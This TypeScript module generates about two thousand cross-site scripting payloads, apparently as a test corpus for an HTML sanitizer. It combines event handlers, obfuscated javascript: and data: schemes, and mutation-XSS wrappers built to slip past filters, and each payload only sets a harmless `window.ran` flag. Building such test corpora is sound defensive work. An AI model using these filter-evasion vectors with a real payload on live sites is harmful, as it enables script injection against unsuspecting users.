// Hostile HTML made of parts: what runs, put into the places where it may run, written in the ways that filters miss.

const CODE = "window.ran=1";
const HANDLERS =
  "onload onerror onclick onfocus onmouseover ontoggle onbegin onanimationstart onpointerenter onwheel".split(" ");
const ELEMENTS =
  `img svg body iframe video audio details input textarea select button marquee object embed form math a p div
  style link meta base table td isindex x custom-element template slot picture source track map area portal dialog`.split(
    /\s+/,
  );
const SCHEMES = [
  "javascript:",
  "JaVaScRiPt:",
  " javascript:",
  "java\tscript:",
  "java\nscript:",
  "&#106;avascript:",
  "&#x6A;avascript&colon;",
  "\u0001javascript:",
  "javascript&#58;",
  "vbscript:",
  "data:text/html,",
  "data:text/html;base64,PHNjcmlwdD4",
  "feed:javascript:",
  "view-source:javascript:",
  "//javascript:",
  "blob:",
  "file:///",
];
const ADDRESSES =
  "href src action formaction data poster background cite longdesc xlink:href srcset srcdoc ping manifest".split(" ");
const MUTATIONS: ((inner: string) => string)[] = [
  (inner) => `<svg><style><img title="</style>${inner}">`,
  (inner) => `<math><mtext><table><mglyph><style><!--</style>${inner}`,
  (inner) => `<noscript><p title="</noscript>${inner}">`,
  (inner) => `<form><math><mtext></form><form><mglyph><style></math>${inner}`,
  (inner) => `<template><p>${inner}</template>`,
  (inner) => `<textarea><p title="</textarea>${inner}">`,
  (inner) => `<title><p title="</title>${inner}">`,
  (inner) => `<xmp><p title="</xmp>${inner}">`,
  (inner) => `<!--><p>${inner}-->`,
  (inner) => `<![CDATA[>${inner}]]>`,
  (inner) => `<select><option>${inner}</select>`,
  (inner) => `<iframe><p title="</iframe>${inner}">`,
  (inner) => `<a href="https://example.org/"><a>${inner}</a></a>`,
  (inner) => `<p/x="${inner}">a</p>`,
  (inner) => `<<p>${inner}`,
  (inner) => inner.replaceAll("<", "<\u0000"),
  (inner) => inner.replaceAll(" ", "/"),
  (inner) => inner.replaceAll(" ", "\u000c"),
  (inner) => inner.toUpperCase().replaceAll("WINDOW.RAN", "window.ran"),
  (inner) => inner.slice(0, -1),
];

/** About two thousand hostile pieces of HTML; whatever of them runs in a browser sets `window.ran`. */
export function hostilePieces(): string[] {
  const handlers = ELEMENTS.flatMap((element) =>
    HANDLERS.map((handler) => `<${element} ${handler}="${CODE}" src=x href=x tabindex=0 autofocus open>a</${element}>`),
  );
  const addresses = ELEMENTS.slice(0, 20).flatMap((element, at) =>
    ADDRESSES.flatMap((name) =>
      [at, at + 5, at + 11].map((n) => `<${element} ${name}="${SCHEMES[n % SCHEMES.length]}${CODE}">a</${element}>`),
    ),
  );
  const plain = [
    `<script>${CODE}</script>`,
    `<script src="data:,${CODE}"></script>`,
    `<img src=x onerror="${CODE}">`,
    `<svg onload="${CODE}">`,
    `<iframe srcdoc="&lt;script&gt;parent.${CODE}&lt;/script&gt;"></iframe>`,
    `<style>@import "javascript:${CODE}"; p { background: url(x) }</style>`,
    `<meta http-equiv="refresh" content="0;url=javascript:${CODE}">`,
    `<base href="javascript:${CODE}//"><a href="#">a</a>`,
    `<a href="javascript:${CODE}">a</a>`,
    `<p style="background:url(javascript:${CODE})">a</p>`,
  ];
  const mutated = [...plain, ...handlers.filter((_, at) => at % 7 === 0)].flatMap((inner) =>
    MUTATIONS.map((wrap) => wrap(inner)),
  );
  return [...plain, ...handlers, ...addresses, ...mutated];
}
